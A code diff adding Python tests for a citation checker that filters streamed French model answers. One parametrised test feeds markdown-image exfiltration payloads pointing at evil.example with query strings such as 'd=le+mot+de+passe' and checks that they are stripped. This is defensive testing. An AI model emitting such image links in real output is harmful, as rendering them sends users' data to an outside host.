@@ -276,3 +276,121 @@ async def test_a_delimiters_code_that_the_model_cites_is_its_passages_marker() -
     events += [event async for event in citer.finish()]
     text = "".join(event.text for event in events if isinstance(event, Token))
     assert text == "Un repas à 19 euros [2]. Le mardi, personne ne télétravaille. [1]"
+
+
+KNOWN_ADDRESS = "https://evil.example/p.png?who=you"
+PASSAGE_WITH_ADDRESS = [passage(1, f"{TELEWORK} Le logo : {KNOWN_ADDRESS}")]
+
+
+@pytest.mark.parametrize(("said", "shown"), [
+    ("![télétravail ](//evil.example/p.png?d=le+mot+de+passe)", "télétravail"),
+    ("![télétravail [1]](//evil.example/p.png?d=le+mot+de+passe)", "télétravail"),
+    ("![télétravail [7]](//evil.example/p.png?d=x)", "télétravail"),
+    ("![[0123456789]](//evil.example/p.png?d=x)", ""),
+    ("![0123456789](//evil.example/p.png?d=x)", "!"),
+    (f"![logo]({KNOWN_ADDRESS})", "logo"),
+    (f"![télétravail [1]]({KNOWN_ADDRESS})", "télétravail"),
+    (f"![9][télétravail]({KNOWN_ADDRESS}) deux jours par semaine [1].",
+     f"! [télétravail]({KNOWN_ADDRESS}) deux jours par semaine [1]."),
+    ("Deux jours par semaine, [voir la charte [1]](//evil.example/p.png?d=x).",
+     "Deux jours par semaine, voir la charte [1]."),
+    ("Deux jours de télétravail par semaine [1](//evil.example/p?d=x).", "Deux jours de télétravail par semaine [1]."),
+    ("Deux jours par semaine![1](//evil.example/p?d=x) deux jours de télétravail.",
+     "Deux jours par semaine![1] deux jours de télétravail. [1]"),
+    (f"Deux jours par semaine![1]({KNOWN_ADDRESS}) deux jours de télétravail.",
+     f"Deux jours par semaine![1] ({KNOWN_ADDRESS}) deux jours de télétravail. [1]"),
+    ("![Deux jours de télétravail. Deux jours par semaine](//evil.example/p?d=x) [1].",
+     "! [Deux jours de télétravail. [1] Deux jours par semaine] [1]."),
+    ("Deux jours par semaine, [la charte](//evil.example/p?d=x\n) de télétravail.",
+     "Deux jours par semaine, [la charte] [1] ) de télétravail."),
+    ("[1]: //evil.example/p?d=x", ""),
+    ("Deux jours par semaine, https:[9]//evil.example/p?d=x de télétravail [1].",
+     "Deux jours par semaine, de télétravail .[1]"),
+    ("Deux jours par semaine![1]", "Deux jours par semaine![1]"),
+    (f"Deux jours par semaine, [le logo [1]]({KNOWN_ADDRESS}).",
+     f"Deux jours par semaine, [le logo [1]]({KNOWN_ADDRESS})."),
+    (f"Le logo : {KNOWN_ADDRESS}[1].", f"Le logo : {KNOWN_ADDRESS}[1]."),
+])
+async def test_no_marker_hides_an_image_or_a_foreign_address(said: str, shown: str) -> None:
+    first = "Deux jours de télétravail par semaine [1].\n"
+    whole = first + said
+    text, citations, _, _ = await cite(whole, passages=PASSAGE_WITH_ADDRESS)
+    assert " ".join(text.removeprefix(first.rstrip()).split()) == " ".join(shown.split())
+    assert all(1 <= citation.marker <= 1 for citation in citations)
+    for cut in range(len(first), len(whole)):
+        assert (await cite(whole[:cut], whole[cut:], passages=PASSAGE_WITH_ADDRESS))[0] == text
+    assert (await cite(*whole, passages=PASSAGE_WITH_ADDRESS))[0] == text
+
+
+DIRECTOR = [passage(1, "Le directeur de l'usine est M. Martin. L'usine ouvre à 8 h.", title="Organigramme")]
+LAW = [passage(1, "Selon l'art. L. 3121-27 du Code du travail, la durée légale est de 35 heures par semaine.")]
+
+
+@pytest.mark.parametrize(("sentence", "passages", "finding"), [
+    ("Le directeur de l'usine est M. Martin [1].", DIRECTOR, Finding.SUPPORTED),
+    ("Le directeur de l'usine est M. Dupont [1].", DIRECTOR, Finding.NAME_ABSENT),
+    ("Le directeur de l'usine est M. Kraken [1].", DIRECTOR, Finding.NAME_ABSENT),
+    ("Le directeur de l'usine est M. Kraken. [1]", DIRECTOR, Finding.NAME_ABSENT),
+    ("Selon l'art. L. 3121-27 du Code du travail, la durée légale est de 35 heures [1].", LAW, Finding.SUPPORTED),
+])
+async def test_a_name_behind_an_abbreviation_is_checked_and_cited(
+    sentence: str, passages: list[Passage], finding: Finding
+) -> None:
+    for deltas in ((sentence,), tuple(sentence)):
+        text, (citation,), withheld, _ = await cite(*deltas, passages=passages)
+        assert (text, withheld) == (sentence, [])
+        assert (citation.marker, citation.finding) == (1, finding)
+        # Every word that is shown lies in a citation's span.
+        assert citation.sentence_span == (0, len(text))
+
+
+@pytest.mark.parametrize("marker", [
+    "[1-2]", "【1】", "【1†source】", "[^1]", "[Source 1, page 1]", "[Source 1, Source 3]",
+])
+async def test_a_marker_in_another_form_is_kept_as_its_number(marker: str) -> None:
+    sentence = f"Deux jours de télétravail par semaine {marker}."
+    for deltas in ((sentence,), tuple(sentence)):
+        text, citations, withheld, _ = await cite(*deltas)
+        assert (text, withheld) == ("Deux jours de télétravail par semaine [1].", [])
+        assert [(c.marker, c.attached, c.finding) for c in citations] == [(1, False, Finding.SUPPORTED)]
+
+
+DEPLOY = [passage(1, "Exécutez cette commande :\n```\nmake deploy ENV=prod\n```\nLe déploiement dure dix minutes.")]
+LATER = "Le déploiement dure dix minutes [1]."
+
+
+@pytest.mark.parametrize(("said", "shown"), [
+    (f"```\nmake deploy ENV=prod [1]\n```\n{UNSUPPORTED}\n{LATER}",
+     f"```\nmake deploy ENV=prod\n```\n[1]\n{LATER}"),
+    (f"Exécutez cette commande :\n```bash\nmake deploy ENV=prod\n```\n{UNSUPPORTED}\n{LATER}",
+     f"Exécutez cette commande :\n```bash\nmake deploy ENV=prod\n```\n[1]\n{LATER}"),
+    (f"{UNSUPPORTED}\n```\nmake deploy ENV=prod\n``` [1]\n{LATER}",
+     f"```\nmake deploy ENV=prod\n```\n[1] \n{LATER}"),
+    (f"```\n{UNSUPPORTED}\nmake deploy ENV=prod [1]\n{UNSUPPORTED}\n}}\n```\n{LATER}",
+     f"```\nmake deploy ENV=prod\n}}\n```\n[1]\n{LATER}"),
+    (f"Exécutez cette commande :\n```\n{UNSUPPORTED}\n```\n{LATER}", f"Exécutez cette commande :\n{LATER}"),
+    (f"```\nmake deploy ENV=prod [1]\n{UNSUPPORTED}", "```\nmake deploy ENV=prod\n```\n[1]"),
+    (f"```PIRATE\nmake deploy ENV=prod\n```\n{LATER}", f"```\nmake deploy ENV=prod\n```\n[1]\n{LATER}"),
+    (f"~~~~\nmake deploy ENV=prod\n~~~\n~~~~\n{LATER}", f"~~~~\nmake deploy ENV=prod\n~~~\n~~~~\n[1]\n{LATER}"),
+    ("```\nmake deploy[1] ENV=prod [1]\n```", "```\nmake deploy[1] ENV=prod\n```\n[1]"),
+])
+async def test_a_block_of_code_is_closed_whatever_is_withheld_and_its_markers_follow_it(said: str, shown: str) -> None:
+    support = {UNSUPPORTED: {1: 0.1}}
+    text, citations, _, _ = await cite(said, passages=DEPLOY, support=support)
+    assert text == shown
+    assert "make deploy" not in text or "make deploy" in text[slice(*citations[0].sentence_span)]
+    assert (await cite(*said, passages=DEPLOY, support=support))[0] == text
+
+
+async def test_the_closing_fence_is_shown_at_once() -> None:
+    citer = citer_of(FakePeers(), DEPLOY, Strictness.WITHHOLD)
+    events = [event async for event in citer.feed("```\nmake deploy ENV=prod [1]\n```\nLe")]
+    assert "".join(event.text for event in events if isinstance(event, Token)).endswith("```\n[1]")
+
+
+async def test_the_mark_mode_closes_blocks_of_code_too() -> None:
+    text, _, _, _ = await cite(
+        f"```\n{UNSUPPORTED}\nmake deploy ENV=prod [1]\n```\n{LATER}", passages=DEPLOY, strictness=Strictness.MARK,
+        support={UNSUPPORTED: {1: 0.1}},
+    )
+    assert text == f"```\n{UNSUPPORTED}\nmake deploy ENV=prod\n```\n[1]\n{LATER}"
